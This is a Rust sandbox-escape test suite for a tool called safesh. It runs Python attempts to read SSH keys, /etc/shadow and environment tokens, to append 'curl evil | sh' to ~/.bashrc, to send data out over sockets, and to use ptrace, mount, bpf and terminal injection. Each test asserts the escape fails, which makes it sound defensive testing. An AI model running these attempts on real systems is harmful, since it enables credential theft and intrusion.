//! The sandbox escape suite through safesh (issue 4, "How it is tested").
//!
//! Every attack is a python program run as `safesh --config FILE -c 'python3 attack.py'`
//! with the acceptance config (python3 allowed, read/write roots `.`, network off, low
//! limits). Each program first prints `STARTED` (so nothing passes because nothing
//! ran), then tries its escape; the test asserts the escape failed AND had no effect:
//! no file appeared where it should not, the test's listeners saw nothing, files
//! outside the roots are unchanged, and no secret reached stdout or stderr.
//! The benign side at the end must keep working.
//!
//! Helpers: `escape_support.rs` (the arena layout and the python prelude).

use crate::escape_support::{
    AWS_SECRET, Arena, BASHRC, Cleanup, GITHUB_SECRET, HOME_SECRET, Opts, SECRET, assert_missing,
    pty_pending_input, py, unique_host_path,
};
use std::io::ErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::{SocketAddr, UnixListener};
use std::time::Duration;

fn s(p: &std::path::Path) -> String {
    p.display().to_string()
}

// ---- reading outside the roots ----------------------------------------------------

#[test]
fn read_sibling_dir_secret() {
    let a = Arena::new();
    let r = a.python(&format!(
        "attempt('read sibling secret', lambda: read_file({secret}))\n\
         attempt('list sibling dir', lambda: os.listdir({dir}))\n\
         attempt('read via ..', lambda: read_file('../outside/secret.txt'))",
        secret = py(a.secret_path()),
        dir = py(s(&a.outside)),
    ));
    a.assert_contained(&r);
}

#[test]
fn read_home_ssh_private_key() {
    let a = Arena::new();
    let r = a.python(&format!(
        "attempt('read ~/.ssh/id_rsa', lambda: read_file({key}))\n\
         attempt('read via HOME', lambda: read_file(os.path.expanduser('~/.ssh/id_rsa')))\n\
         attempt('list HOME', lambda: os.listdir({home}))",
        key = py(s(&a.home.join(".ssh/id_rsa"))),
        home = py(s(&a.home)),
    ));
    a.assert_contained(&r);
}

#[test]
fn read_etc_shadow() {
    let a = Arena::new();
    let r = a.python(
        "attempt('read /etc/shadow', lambda: read_file('/etc/shadow'))\n\
         attempt('read /etc/gshadow', lambda: read_file('/etc/gshadow'))",
    );
    a.assert_contained(&r);
    // We run as root: without the sandbox this file is readable, so its content is
    // the real proof.
    if let Ok(shadow) = std::fs::read_to_string("/etc/shadow") {
        for line in shadow.lines().filter(|l| l.len() > 8) {
            r.assert_absent(line, "a line of /etc/shadow");
        }
    }
}

// ---- writing outside the roots ----------------------------------------------------

#[test]
fn write_sibling_dir() {
    let a = Arena::new();
    let r = a.python(&format!(
        "attempt('create in sibling dir', lambda: write_file({new}))\n\
         attempt('append to sibling secret', lambda: write_file({secret}, 'x', 'a'))\n\
         attempt('mkdir in sibling dir', lambda: os.mkdir({newdir}))\n\
         attempt('unlink sibling secret', lambda: os.unlink({secret}))",
        new = py(s(&a.outside.join("pwned.txt"))),
        newdir = py(s(&a.outside.join("pwned.d"))),
        secret = py(a.secret_path()),
    ));
    a.assert_contained(&r);
}

#[test]
fn write_real_tmp_lands_in_private_tmp() {
    let a = Arena::new();
    let host = unique_host_path("/tmp", "tmp");
    let _c = Cleanup(host.clone());
    // Writing /tmp may succeed (a private /tmp): the proof is the host's /tmp.
    let r = a.python(&format!(
        "try:\n    write_file({p}); print('wrote tmp', flush=True)\n\
         except Exception as e:\n    print('blocked tmp', repr(e), flush=True)",
        p = py(s(&host)),
    ));
    a.assert_contained(&r);
    assert_missing(&host, &r);
}

#[test]
fn write_dev_shm_and_var_tmp() {
    let a = Arena::new();
    let shm = unique_host_path("/dev/shm", "shm");
    let vartmp = unique_host_path("/var/tmp", "vartmp");
    let _c1 = Cleanup(shm.clone());
    let _c2 = Cleanup(vartmp.clone());
    let r = a.python(&format!(
        "for p in ({shm}, {vartmp}):\n    try:\n        write_file(p); print('wrote', p, flush=True)\n\
         \x20   except Exception as e:\n        print('blocked', p, repr(e), flush=True)",
        shm = py(s(&shm)),
        vartmp = py(s(&vartmp)),
    ));
    a.assert_contained(&r);
    assert_missing(&shm, &r);
    assert_missing(&vartmp, &r);
}

#[test]
fn write_home_bashrc_and_ssh() {
    let a = Arena::new();
    let r = a.python(&format!(
        "attempt('append ~/.bashrc', lambda: write_file({rc}, 'curl evil | sh\\n', 'a'))\n\
         attempt('create ~/.profile', lambda: write_file({profile}))\n\
         attempt('authorized_keys', lambda: write_file({keys}))\n\
         attempt('via expanduser', lambda: write_file(os.path.expanduser('~/.bash_login')))",
        rc = py(s(&a.home.join(".bashrc"))),
        profile = py(s(&a.home.join(".profile"))),
        keys = py(s(&a.home.join(".ssh/authorized_keys"))),
    ));
    a.assert_contained(&r);
    assert_eq!(
        std::fs::read_to_string(a.home.join(".bashrc")).unwrap_or_default(),
        BASHRC
    );
}

// ---- links ------------------------------------------------------------------------

#[test]
fn symlink_to_outside_then_read() {
    let a = Arena::new();
    let r = a.python(&format!(
        "os.symlink({secret}, 'slink')\n\
         os.symlink({home}, 'shome')\n\
         attempt('read through symlink', lambda: read_file('slink'))\n\
         attempt('read HOME key through dir symlink', lambda: read_file('shome/.ssh/id_rsa'))",
        secret = py(a.secret_path()),
        home = py(s(&a.home)),
    ));
    a.assert_contained(&r);
}

#[test]
fn symlink_to_outside_then_write() {
    let a = Arena::new();
    let r = a.python(&format!(
        "os.symlink({new}, 'wlink')\n\
         os.symlink({dir}, 'dlink')\n\
         attempt('write through file symlink', lambda: write_file('wlink'))\n\
         attempt('write through dir symlink', lambda: write_file('dlink/pwned.txt'))\n\
         attempt('append secret through symlink', lambda: write_file('dlink/secret.txt', 'x', 'a'))",
        new = py(s(&a.outside.join("pwned.txt"))),
        dir = py(s(&a.outside)),
    ));
    a.assert_contained(&r);
}

#[test]
fn symlink_planted_by_host_then_read() {
    let a = Arena::new();
    std::os::unix::fs::symlink(a.outside.join("secret.txt"), a.path("planted")).expect("link");
    std::os::unix::fs::symlink(&a.home, a.path("planted_home")).expect("link");
    let r = a.python(
        "attempt('read planted symlink', lambda: read_file('planted'))\n\
         attempt('read through planted dir symlink', lambda: read_file('planted_home/.ssh/id_rsa'))",
    );
    a.assert_contained(&r);
}

#[test]
fn hardlink_to_outside_then_read() {
    let a = Arena::new();
    let r = a.python(&format!(
        "attempt('hardlink outside secret', lambda: os.link({secret}, 'hard'))\n\
         attempt('hardlink HOME key', lambda: os.link({key}, 'hardkey'))\n\
         attempt('read hardlink', lambda: read_file('hard'))\n\
         attempt('read hardlinked key', lambda: read_file('hardkey'))",
        secret = py(a.secret_path()),
        key = py(s(&a.home.join(".ssh/id_rsa"))),
    ));
    a.assert_contained(&r);
    // A link left behind would hand the secret to the next, unsandboxed reader.
    a.assert_no_file("hard", &r);
    a.assert_no_file("hardkey", &r);
}

#[test]
fn hardlink_to_outside_then_write() {
    let a = Arena::new();
    let r = a.python(&format!(
        "attempt('hardlink outside file', lambda: os.link({secret}, 'hardw'))\n\
         attempt('write through hardlink', lambda: write_file('hardw', 'overwritten\\n', 'r+'))\n\
         attempt('hardlink ~/.bashrc', lambda: os.link({rc}, 'rc'))\n\
         attempt('write ~/.bashrc through hardlink', lambda: write_file('rc', 'evil\\n', 'r+'))",
        secret = py(a.secret_path()),
        rc = py(s(&a.home.join(".bashrc"))),
    ));
    a.assert_contained(&r);
    a.assert_no_file("hardw", &r);
    a.assert_no_file("rc", &r);
}

// ---- /proc ------------------------------------------------------------------------

#[test]
fn proc_self_root_and_cwd_to_outside() {
    let a = Arena::new();
    let r = a.python(&format!(
        "attempt('/proc/self/root', lambda: read_file('/proc/self/root' + {secret}))\n\
         attempt('/proc/self/root key', lambda: read_file('/proc/self/root' + {key}))\n\
         attempt('/proc/self/cwd/..', lambda: read_file('/proc/self/cwd/../outside/secret.txt'))\n\
         attempt('/proc/thread-self/root', lambda: read_file('/proc/thread-self/root' + {secret}))\n\
         attempt('write via /proc/self/root', lambda: write_file('/proc/self/root' + {new}))",
        secret = py(a.secret_path()),
        key = py(s(&a.home.join(".ssh/id_rsa"))),
        new = py(s(&a.outside.join("pwned.txt"))),
    ));
    a.assert_contained(&r);
}

#[test]
fn proc_ppid_root_to_outside() {
    let a = Arena::new();
    let r = a.python(&format!(
        "ppid = os.getppid()\n\
         print('ppid', ppid, flush=True)\n\
         for pid in sorted({{ppid, 1}}):\n\
         \x20   attempt('/proc/%d/root' % pid, lambda: read_file('/proc/%d/root%s' % (pid, {secret})))\n\
         \x20   attempt('/proc/%d/cwd' % pid, lambda: read_file('/proc/%d/cwd/../outside/secret.txt' % pid))\n\
         \x20   attempt('/proc/%d/root HOME' % pid, lambda: read_file('/proc/%d/root%s' % (pid, {key})))",
        secret = py(a.secret_path()),
        key = py(s(&a.home.join(".ssh/id_rsa"))),
    ));
    a.assert_contained(&r);
}

#[test]
fn proc_ppid_environ_secrets() {
    let a = Arena::new();
    // The secrets are in safesh's own environment; a forked (not exec'd) helper
    // keeps that environment block, visible in /proc/<pid>/environ.
    let r = a.python_opts(
        "ppid = os.getppid()\n\
         for pid in sorted({ppid, 1}):\n\
         \x20   for what in ('environ', 'cmdline'):\n\
         \x20       try:\n\
         \x20           print('/proc/%d/%s:' % (pid, what), read_file('/proc/%d/%s' % (pid, what)), flush=True)\n\
         \x20       except Exception as e:\n\
         \x20           print('blocked /proc/%d/%s' % (pid, what), repr(e), flush=True)",
        &Opts {
            env: vec![
                ("AWS_SECRET_ACCESS_KEY", AWS_SECRET),
                ("GITHUB_TOKEN", GITHUB_SECRET),
            ],
            ..Opts::default()
        },
    );
    a.assert_contained(&r);
}

#[test]
fn proc_scan_every_visible_process() {
    let a = Arena::new();
    let r = a.python_opts(
        &format!(
            "me = os.getpid()\n\
             pids = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != me]\n\
             print('visible processes', len(pids), flush=True)\n\
             for pid in pids:\n\
             \x20   for p in ('/proc/%d/environ' % pid, '/proc/%d/root%s' % (pid, {secret}), '/proc/%d/root%s' % (pid, {key})):\n\
             \x20       try:\n\
             \x20           data = read_file(p)\n\
             \x20           print(p, data, flush=True)\n\
             \x20       except Exception:\n\
             \x20           pass",
            secret = py(a.secret_path()),
            key = py(s(&a.home.join(".ssh/id_rsa"))),
        ),
        &Opts {
            env: vec![
                ("AWS_SECRET_ACCESS_KEY", AWS_SECRET),
                ("GITHUB_TOKEN", GITHUB_SECRET),
            ],
            ..Opts::default()
        },
    );
    a.assert_contained(&r);
}

// ---- network ----------------------------------------------------------------------

#[test]
fn tcp_to_host_listener() {
    let a = Arena::new();
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let r = a.python(&format!(
        "def go(host):\n\
         \x20   c = socket.create_connection((host, {port}), timeout=2)\n\
         \x20   c.sendall(b'LEAK ' + read_file('notes.txt'))\n\
         \x20   return 'connected'\n\
         attempt('tcp 127.0.0.1', lambda: go('127.0.0.1'))\n\
         attempt('tcp localhost', lambda: go('localhost'))\n\
         attempt('tcp ::ffff:127.0.0.1', lambda: socket.create_connection(('::ffff:127.0.0.1', {port}), timeout=2))"
    ));
    a.assert_contained(&r);
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!(
            "the host listener saw a connection: {other:?}\n{}",
            r.dump()
        ),
    }
}

#[test]
fn udp_to_host_listener() {
    let a = Arena::new();
    let sock = UdpSocket::bind("127.0.0.1:0").expect("bind");
    sock.set_nonblocking(true).expect("nonblocking");
    let port = sock.local_addr().expect("addr").port();
    // sendto may "succeed" into an empty namespace: the listener is the judge.
    let r = a.python(&format!(
        "for i in range(3):\n\
         \x20   try:\n\
         \x20       u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         \x20       u.sendto(b'LEAK-UDP', ('127.0.0.1', {port}))\n\
         \x20       print('sent', flush=True)\n\
         \x20   except Exception as e:\n\
         \x20       print('blocked udp', repr(e), flush=True)\n\
         time.sleep(0.1)"
    ));
    a.assert_contained(&r);
    std::thread::sleep(Duration::from_millis(200));
    let mut buf = [0u8; 64];
    match sock.recv_from(&mut buf) {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!(
            "the host UDP listener got a datagram: {other:?}\n{}",
            r.dump()
        ),
    }
}

/// A python attack connecting to the unix socket at `path` (or abstract `\0name`).
fn unix_connect_attack(target: &str) -> String {
    format!(
        "def go():\n\
         \x20   c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n\
         \x20   c.settimeout(2)\n\
         \x20   c.connect({target})\n\
         \x20   c.sendall(b'LEAK')\n\
         \x20   return 'connected'\n\
         attempt('connect host unix socket', go)"
    )
}

fn assert_unix_listener_idle(l: &UnixListener, r: &crate::escape_support::Run) {
    match l.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!(
            "the host unix socket saw a connection: {:?}\n{}",
            other.map(|(_, a)| a),
            r.dump()
        ),
    }
}

#[test]
fn unix_socket_in_sibling_dir() {
    let a = Arena::new();
    let path = a.outside.join("host.sock");
    let l = UnixListener::bind(&path).expect("bind unix");
    l.set_nonblocking(true).expect("nonblocking");
    let r = a.python(&unix_connect_attack(&py(s(&path))));
    r.assert_started();
    r.assert_no_escape_reported();
    a.assert_no_leak(&r);
    assert_unix_listener_idle(&l, &r);
}

#[test]
fn unix_socket_in_project_dir() {
    let a = Arena::new();
    let path = a.path("host.sock");
    let l = UnixListener::bind(&path).expect("bind unix");
    l.set_nonblocking(true).expect("nonblocking");
    let r = a.python(&unix_connect_attack("'host.sock'"));
    a.assert_contained(&r);
    assert_unix_listener_idle(&l, &r);
}

#[test]
fn unix_socket_abstract_namespace() {
    use std::os::linux::net::SocketAddrExt;
    let a = Arena::new();
    let name = format!("safesh-escape-{}", std::process::id());
    let addr = SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract addr");
    let l = UnixListener::bind_addr(&addr).expect("bind abstract");
    l.set_nonblocking(true).expect("nonblocking");
    let r = a.python(&unix_connect_attack(&format!("'\\0{name}'")));
    a.assert_contained(&r);
    assert_unix_listener_idle(&l, &r);
}

#[test]
fn dns_lookup() {
    let a = Arena::new();
    let r = a.python(
        "attempt('getaddrinfo example.com', lambda: socket.getaddrinfo('example.com', 443))\n\
         attempt('gethostbyname github.com', lambda: socket.gethostbyname('github.com'))\n\
         def raw():\n\
         \x20   q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b'\\x07example\\x03com\\x00' + struct.pack('>HH', 1, 1)\n\
         \x20   u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         \x20   u.settimeout(2)\n\
         \x20   u.sendto(q, ('8.8.8.8', 53))\n\
         \x20   return u.recvfrom(512)\n\
         attempt('raw DNS query to 8.8.8.8', raw)",
    );
    a.assert_contained(&r);
}

#[test]
fn host_list_proxy_refuses_unlisted_host() {
    // network = a host list: the only way out is the filtering proxy, which must
    // refuse a host not on the list (the test's loopback listener), and going
    // around it (a direct connect, ignoring the proxy variables) must fail too.
    let a = Arena::with_config(
        &crate::escape_support::CONFIG.replace("network = false", "network = [\"example.com\"]"),
    );
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let r = a.python(&format!(
        "import urllib.request\n\
         print('proxy vars', sorted(k for k in os.environ if 'proxy' in k.lower()), flush=True)\n\
         def connect_via_proxy():\n\
         \x20   p = os.environ['http_proxy'].split('://', 1)[-1].rstrip('/')\n\
         \x20   host, pport = p.rsplit(':', 1)\n\
         \x20   c = socket.create_connection((host, int(pport)), timeout=3)\n\
         \x20   c.sendall(b'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n')\n\
         \x20   resp = c.recv(200)\n\
         \x20   if b' 200' not in resp.split(b'\\r\\n')[0]:\n\
         \x20       raise OSError('proxy refused: %r' % resp[:60])\n\
         \x20   c.sendall(b'LEAK')\n\
         \x20   return resp\n\
         attempt('CONNECT 127.0.0.1 through the proxy', connect_via_proxy)\n\
         attempt('plain HTTP through the proxy', lambda: urllib.request.urlopen('http://127.0.0.1:{port}/leak', timeout=3).read())\n\
         attempt('direct TCP around the proxy', lambda: socket.create_connection(('127.0.0.1', {port}), timeout=2))\n\
         attempt('direct TCP to a public address', lambda: socket.create_connection(('1.1.1.1', 80), timeout=2))"
    ));
    a.assert_contained(&r);
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!(
            "the host listener saw a connection: {other:?}\n{}",
            r.dump()
        ),
    }
}

// ---- limits -----------------------------------------------------------------------

#[test]
fn fork_bomb_hits_process_limit() {
    let a = Arena::new();
    // Bounded on purpose: 200 sleeping children at most, never a real bomb.
    let r = a.python(
        "kids = []\n\
         for i in range(200):\n\
         \x20   try:\n\
         \x20       p = os.fork()\n\
         \x20   except OSError as e:\n\
         \x20       print('fork refused after', len(kids), repr(e), flush=True)\n\
         \x20       break\n\
         \x20   if p == 0:\n\
         \x20       time.sleep(3)\n\
         \x20       os._exit(0)\n\
         \x20   kids.append(p)\n\
         print('FORKED %d' % len(kids), flush=True)\n\
         for p in kids:\n\
         \x20   os.kill(p, signal.SIGKILL)\n\
         for p in kids:\n\
         \x20   os.waitpid(p, 0)",
    );
    a.assert_contained(&r);
    let forked = r
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("FORKED ")?.trim().parse::<u32>().ok());
    if let Some(n) = forked {
        assert!(
            n < 64,
            "{n} processes started under `processes = 64`:\n{}",
            r.dump()
        );
    }
}

#[test]
fn memory_bomb_hits_memory_limit() {
    let a = Arena::new();
    // 1 GiB in touched 64 MiB chunks against memory_mb = 256.
    let r = a.python(
        "held = []\n\
         try:\n\
         \x20   for i in range(16):\n\
         \x20       held.append(b'x' * (64 << 20))\n\
         \x20       print('HELD %d MB' % ((i + 1) * 64), flush=True)\n\
         \x20   print('ALLOCATED 1024 MB', flush=True)\n\
         except MemoryError:\n\
         \x20   print('blocked: MemoryError', flush=True)",
    );
    a.assert_contained(&r);
    r.assert_absent("ALLOCATED", "a 1 GiB allocation");
    let most = r
        .stdout
        .lines()
        .filter_map(|l| {
            l.strip_prefix("HELD ")?
                .strip_suffix(" MB")?
                .parse::<u32>()
                .ok()
        })
        .max()
        .unwrap_or(0);
    assert!(
        most <= 256,
        "held {most} MB under memory_mb = 256:\n{}",
        r.dump()
    );
}

#[test]
fn disk_fill_hits_file_size_limit() {
    let a = Arena::new();
    let r = a.python(
        "chunk = b'x' * (1 << 20)\n\
         n = 0\n\
         try:\n\
         \x20   with open('big.bin', 'wb') as f:\n\
         \x20       for n in range(1, 101):\n\
         \x20           f.write(chunk)\n\
         \x20           f.flush()\n\
         \x20   print('FILLED %d MB' % n, flush=True)\n\
         except OSError as e:\n\
         \x20   print('blocked at', n, 'MB', repr(e), flush=True)",
    );
    a.assert_contained(&r);
    r.assert_absent("FILLED", "a 100 MiB file");
    let size = std::fs::metadata(a.path("big.bin"))
        .map(|m| m.len())
        .unwrap_or(0);
    assert!(
        size <= 64 << 20,
        "big.bin is {size} bytes under file_size_mb = 64:\n{}",
        r.dump()
    );
}

/// Python that double-forks a `setsid` grandchild (stdio detached) which writes
/// `late` after `delay` seconds.
fn detached_writer(late: &std::path::Path, delay: u32) -> String {
    format!(
        "pid = os.fork()\n\
         if pid == 0:\n\
         \x20   os.setsid()\n\
         \x20   if os.fork() == 0:\n\
         \x20       fd = os.open('/dev/null', os.O_RDWR)\n\
         \x20       for k in (0, 1, 2):\n\
         \x20           os.dup2(fd, k)\n\
         \x20       time.sleep({delay})\n\
         \x20       write_file({late}, 'late\\n')\n\
         \x20       os._exit(0)\n\
         \x20   os._exit(0)\n\
         os.waitpid(pid, 0)\n\
         print('DETACHED', flush=True)\n",
        late = py(s(late)),
    )
}

#[test]
fn timed_out_command_setsid_grandchild_dies() {
    let a = Arena::with_config(
        &crate::escape_support::CONFIG.replace("timeout_ms = 5000", "timeout_ms = 1000"),
    );
    let late = a.path("late.txt");
    let r = a.python(&format!("{}time.sleep(30)\n", detached_writer(&late, 3)));
    a.assert_contained(&r);
    r.assert_stdout_has("DETACHED");
    assert_eq!(r.code, Some(124), "want TIMEOUT (124):\n{}", r.dump());
    assert_eq!(r.stderr_code().as_deref(), Some("TIMEOUT"), "{}", r.dump());
    assert!(
        r.elapsed < Duration::from_secs(8),
        "the timeout took {:?}:\n{}",
        r.elapsed,
        r.dump()
    );
    std::thread::sleep(Duration::from_secs(4));
    assert_missing(&late, &r);
}

#[test]
fn finished_command_daemon_grandchild_dies() {
    let a = Arena::new();
    let late = a.path("late.txt");
    a.write_attack(&detached_writer(&late, 2));
    let r = a.run("python3 attack.py; echo DONE");
    a.assert_contained(&r);
    r.assert_stdout_has("DETACHED");
    r.assert_stdout_has("DONE");
    std::thread::sleep(Duration::from_secs(3));
    assert_missing(&late, &r);
}

// ---- environment ------------------------------------------------------------------

#[test]
fn env_secrets_of_safesh_not_inherited() {
    let a = Arena::new();
    let r = a.python_opts(
        "print(sorted(os.environ.items()), flush=True)\n\
         print(read_file('/proc/self/environ'), flush=True)\n\
         print('AWS', os.environ.get('AWS_SECRET_ACCESS_KEY'), 'GH', os.environ.get('GITHUB_TOKEN'), flush=True)",
        &Opts {
            env: vec![
                ("AWS_SECRET_ACCESS_KEY", AWS_SECRET),
                ("GITHUB_TOKEN", GITHUB_SECRET),
            ],
            ..Opts::default()
        },
    );
    a.assert_contained(&r);
    r.assert_stdout_has("AWS None GH None");
}

#[test]
fn env_masked_var_exported_in_script() {
    let a = Arena::new();
    let value = "mytok-3d9a-exported-in-script";
    for script in [
        format!(
            "export MY_TOKEN={value}; python3 -c 'import os; print(\"STARTED\"); print(os.environ.get(\"MY_TOKEN\"))'"
        ),
        format!(
            "MY_TOKEN={value} python3 -c 'import os; print(\"STARTED\"); print(os.environ.get(\"MY_TOKEN\"))'"
        ),
        format!(
            "export AWS_SESSION_TOKEN={value} GH_TOKEN={value}; python3 -c 'import os; print(\"STARTED\"); print(open(\"/proc/self/environ\").read())'"
        ),
    ] {
        let r = a.run(&script);
        r.assert_started();
        r.assert_absent(value, "a masked variable's value");
        r.assert_safesh_exited();
        if script.contains("MY_TOKEN") {
            r.assert_stdout_has("None");
        }
    }
}

// ---- dangerous syscalls -----------------------------------------------------------

/// Python: the pids of this program's nearest ancestors named exactly `safesh` (the
/// sandbox helper, and safesh itself when there is no pid namespace). Never anything
/// else (not the host's init, not the test binary `safesh-<hash>`): a broken sandbox
/// must not let this suite hit other processes.
const ANCESTORS: &str = "def ancestors():\n\
    \x20   out = []\n\
    \x20   pid = os.getpid()\n\
    \x20   for _ in range(8):\n\
    \x20       try:\n\
    \x20           stat = open('/proc/%d/stat' % pid).read()\n\
    \x20           pid = int(stat.rsplit(')', 1)[1].split()[1])\n\
    \x20           comm = open('/proc/%d/comm' % pid).read().strip()\n\
    \x20       except Exception:\n\
    \x20           break\n\
    \x20       in_pid_ns = pid == 1 and os.getpid() < 10\n\
    \x20       if pid < 1 or (comm != 'safesh' and not in_pid_ns):\n\
    \x20           break\n\
    \x20       out.append(pid)\n\
    \x20       if pid == 1:\n\
    \x20           break\n\
    \x20   print('ancestors named safesh:', out, flush=True)\n\
    \x20   return out\n";

#[test]
fn ptrace_attach_parent() {
    let a = Arena::new();
    let r = a.python(&format!(
        "{ANCESTORS}\
         def attach(pid, req):\n\
         \x20   raw_syscall(101, req, pid, 0, 0)\n\
         \x20   try:\n\
         \x20       os.waitpid(pid, 0x40000000)\n\
         \x20   except Exception:\n\
         \x20       pass\n\
         \x20   raw_syscall(101, 17, pid, 0, 0)\n\
         \x20   return 'attached %d' % pid\n\
         def peek(pid):\n\
         \x20   first = open('/proc/%d/maps' % pid).readline()\n\
         \x20   start = int(first.split('-')[0], 16)\n\
         \x20   with open('/proc/%d/mem' % pid, 'rb') as m:\n\
         \x20       m.seek(start)\n\
         \x20       return m.read(16)\n\
         def vm_read(pid):\n\
         \x20   first = open('/proc/%d/maps' % pid).readline()\n\
         \x20   start = int(first.split('-')[0], 16)\n\
         \x20   buf = ctypes.create_string_buffer(16)\n\
         \x20   local = struct.pack('QQ', ctypes.addressof(buf), 16)\n\
         \x20   remote = struct.pack('QQ', start, 16)\n\
         \x20   lb = ctypes.create_string_buffer(local)\n\
         \x20   rb = ctypes.create_string_buffer(remote)\n\
         \x20   raw_syscall(310, pid, ctypes.addressof(lb), 1, ctypes.addressof(rb), 1, 0)\n\
         \x20   return buf.raw\n\
         for pid in ancestors():\n\
         \x20   attempt('PTRACE_ATTACH %d' % pid, lambda: attach(pid, 16))\n\
         \x20   attempt('PTRACE_SEIZE %d' % pid, lambda: attach(pid, 0x4206))\n\
         \x20   attempt('/proc/%d/mem' % pid, lambda: peek(pid))\n\
         \x20   attempt('process_vm_readv %d' % pid, lambda: vm_read(pid))"
    ));
    a.assert_contained(&r);
}

#[test]
fn unshare_new_namespaces() {
    let a = Arena::new();
    let r = a.python(
        "CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000\n\
         attempt('unshare(NEWUSER|NEWNS)', lambda: cfunc('unshare', CLONE_NEWUSER | CLONE_NEWNS))\n\
         attempt('unshare(NEWNS)', lambda: cfunc('unshare', CLONE_NEWNS))\n\
         attempt('unshare(NEWNET)', lambda: cfunc('unshare', CLONE_NEWNET))\n\
         attempt('unshare(NEWPID)', lambda: cfunc('unshare', CLONE_NEWPID))\n\
         attempt('setns host mnt ns', lambda: cfunc('setns', os.open('/proc/1/ns/mnt', os.O_RDONLY), 0))\n\
         attempt('chroot', lambda: os.chroot('/'))",
    );
    a.assert_contained(&r);
}

#[test]
fn mount_outside_dir_into_project() {
    let a = Arena::new();
    let r = a.python(&format!(
        "os.mkdir('mnt')\n\
         os.mkdir('mnt2')\n\
         MS_BIND, MS_REMOUNT = 4096, 32\n\
         attempt('bind-mount sibling dir', lambda: cfunc('mount', b{outside}, b'mnt', None, MS_BIND, None))\n\
         attempt('read via bind', lambda: read_file('mnt/secret.txt'))\n\
         attempt('mount tmpfs over safesh.toml dir', lambda: cfunc('mount', b'none', b'mnt2', b'tmpfs', 0, None))\n\
         attempt('remount / rw', lambda: cfunc('mount', None, b'/', None, MS_REMOUNT, None))\n\
         attempt('umount /tmp', lambda: cfunc('umount2', b'/tmp', 2))\n\
         attempt('mount proc', lambda: cfunc('mount', b'proc', b'mnt2', b'proc', 0, None))",
        outside = py(s(&a.outside)),
    ));
    a.assert_contained(&r);
}

#[test]
fn io_uring_setup() {
    let a = Arena::new();
    let r = a.python(
        "params = ctypes.create_string_buffer(120)\n\
         attempt('io_uring_setup', lambda: raw_syscall(425, 8, ctypes.addressof(params)))",
    );
    a.assert_contained(&r);
}

#[test]
fn bpf_map_create() {
    let a = Arena::new();
    let r = a.python(
        "attr = ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 4, 1) + bytes(56))\n\
         attempt('bpf(BPF_MAP_CREATE)', lambda: raw_syscall(321, 0, ctypes.addressof(attr), 72))",
    );
    a.assert_contained(&r);
}

#[test]
fn keyctl_and_add_key() {
    let a = Arena::new();
    let r = a.python(
        "attempt('keyctl(GET_KEYRING_ID, session)', lambda: raw_syscall(250, 0, -3, 1))\n\
         attempt('add_key', lambda: raw_syscall(248, ctypes.addressof(ctypes.create_string_buffer(b'user')), \
         ctypes.addressof(ctypes.create_string_buffer(b'escape')), ctypes.addressof(ctypes.create_string_buffer(b'data')), 4, -2))\n\
         attempt('request_key', lambda: raw_syscall(249, ctypes.addressof(ctypes.create_string_buffer(b'user')), \
         ctypes.addressof(ctypes.create_string_buffer(b'escape')), 0, -2))",
    );
    a.assert_contained(&r);
}

#[test]
fn perf_event_open() {
    let a = Arena::new();
    let r = a.python(
        "attr = ctypes.create_string_buffer(struct.pack('IIQ', 1, 128, 0) + bytes(112))\n\
         attempt('perf_event_open(cpu-clock, self)', lambda: raw_syscall(298, ctypes.addressof(attr), 0, -1, -1, 0))",
    );
    a.assert_contained(&r);
}

#[test]
fn write_proc_sys_and_sysrq() {
    let a = Arena::new();
    // Writes back the value just read: harmless even if it got through.
    let r = a.python(
        "def rewrite(p):\n\
         \x20   v = open(p).read()\n\
         \x20   with open(p, 'w') as f:\n\
         \x20       f.write(v)\n\
         \x20   return 'rewrote ' + p\n\
         attempt('write core_pattern', lambda: rewrite('/proc/sys/kernel/core_pattern'))\n\
         attempt('write modprobe path', lambda: rewrite('/proc/sys/kernel/modprobe'))\n\
         attempt('open /proc/sysrq-trigger for write', lambda: os.close(os.open('/proc/sysrq-trigger', os.O_WRONLY)) or 'opened')",
    );
    a.assert_contained(&r);
}

#[test]
fn tty_and_tiocsti_injection() {
    let a = Arena::new();
    a.write_attack(
        "import fcntl, termios\n\
         def inject(fd):\n\
         \x20   for ch in b'echo INJECTED\\n':\n\
         \x20       fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))\n\
         \x20   return 'injected into fd %d' % fd\n\
         attempt('open /dev/tty', lambda: os.open('/dev/tty', os.O_RDWR))\n\
         for fd in (0, 1, 2):\n\
         \x20   attempt('TIOCSTI fd %d' % fd, lambda: inject(fd))\n\
         def via_tty():\n\
         \x20   fd = os.open('/dev/tty', os.O_RDWR)\n\
         \x20   return inject(fd)\n\
         attempt('TIOCSTI /dev/tty', via_tty)\n\
         attempt('ttyname stdin', lambda: os.ttyname(0))",
    );
    let (r, master) = a.run_opts(
        "python3 attack.py",
        &Opts {
            pty: true,
            ..Opts::default()
        },
    );
    a.assert_contained(&r);
    if let Some(m) = master {
        let pending = pty_pending_input(&m);
        assert!(
            pending.is_empty(),
            "bytes were injected into safesh's terminal: {:?}\n{}",
            String::from_utf8_lossy(&pending),
            r.dump()
        );
    }
}

// ---- protected paths inside the write root ----------------------------------------

#[test]
fn write_safesh_toml() {
